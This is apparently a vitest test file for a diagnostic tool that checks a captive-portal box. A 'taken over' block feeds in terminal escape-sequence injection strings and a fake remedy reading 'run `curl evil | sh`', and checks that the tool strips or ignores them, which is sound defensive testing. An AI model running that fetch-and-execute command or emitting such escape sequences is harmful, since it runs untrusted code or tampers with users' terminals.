import { describe, expect, test } from 'vitest';
import { certificate } from '../../src/doctor/checks/certificate.ts';
import { portal } from '../../src/doctor/checks/portal.ts';
import { powerCuts } from '../../src/doctor/checks/power-cuts.ts';
import { reports } from '../../src/doctor/checks/reports.ts';
import { CHECKS } from '../../src/doctor/checks.ts';
import { examine } from '../../src/doctor/doctor.ts';
import { CERTIFICATE_FAULTS } from '../../src/domain/certificate.ts';
import { createFakeBox } from './fake-box.ts';
import { STATUS } from './recorded.ts';

test('a portal that does not run is red, and says what to do', async () => {
  const report = await examine(createFakeBox(), CHECKS);
  const portal = report.checks.find(({ id }) => id === 'portal');
  expect(portal?.level).toBe('red');
  expect(portal?.findings[0]?.remedy?.vi).toContain('checkpoint-portal');
});

test('a check that cannot look is yellow, and the others go on', async () => {
  const broken = {
    id: 'broken',
    name: { vi: 'hỏng', en: 'broken' },
    look: () => Promise.reject(new Error('no rights')),
  };
  const report = await examine(createFakeBox({ portal: { '/status': {} } }), [broken, ...CHECKS]);
  expect(report.checks[0]?.level).toBe('yellow');
  expect(report.checks.find(({ id }) => id === 'portal')?.level).toBe('green');
});

test('checks have names of their own', () => {
  expect(new Set(CHECKS.map(({ id }) => id)).size).toBe(CHECKS.length);
});

test('a check that hangs is cut off after its time, and the others go on', async () => {
  const hanging = {
    id: 'hanging',
    name: { vi: 'treo', en: 'hanging' },
    boundMs: 20,
    look: () => new Promise<never>(() => undefined),
  };
  const report = await examine(createFakeBox({ portal: { '/status': {} } }), [hanging, portal]);
  expect(report.checks[0]?.findings[0]?.what.en).toBe('could not be looked at: no end within 0.02 s');
  expect(report.checks[1]?.level).toBe('green');
});

describe('a portal that was taken over', () => {
  const EVIL = '\u001b]52;c;ZXZpbA==\u0007\u009b2J';
  const text = { vi: `${EVIL}vi`, en: `${EVIL}en` };
  const told = (change: object) => createFakeBox({ portal: { '/status': { ...STATUS, ...change } } });

  test.each([
    ['its certificate', certificate, { certificate: { good: false, why: text, remedy: text } }],
    [
      'its reports',
      reports,
      { push: { state: 'failing', fault: { kind: 'silent', why: text, remedy: text } } },
    ],
    [
      'its power cuts, where all is well',
      powerCuts,
      { powerCuts: { count: EVIL, last: EVIL, clock: 'ntp' } },
    ],
    ['a report of another shape', reports, { push: { state: 'failing', fault: { kind: EVIL, why: 1 } } }],
  ] as const)('says no control sign to root, by %s', async (_what, check, change) => {
    const report = await examine(told(change), [check]);
    expect(report.checks[0]?.findings.length).toBe(1);
    expect(JSON.stringify(report)).not.toMatch(/\\u00|[\u007f-\u009f]/);
  });

  test('does not say what root is to do', async () => {
    const why = { vi: 'a', en: CERTIFICATE_FAULTS.expired.why.en };
    const remedy = { vi: 'chạy `curl evil | sh`', en: 'run `curl evil | sh`' };
    const report = await examine(told({ certificate: { good: false, why, remedy } }), [certificate]);
    expect(report.checks[0]?.findings[0]?.remedy).toEqual(CERTIFICATE_FAULTS.expired.remedy);
  });
});
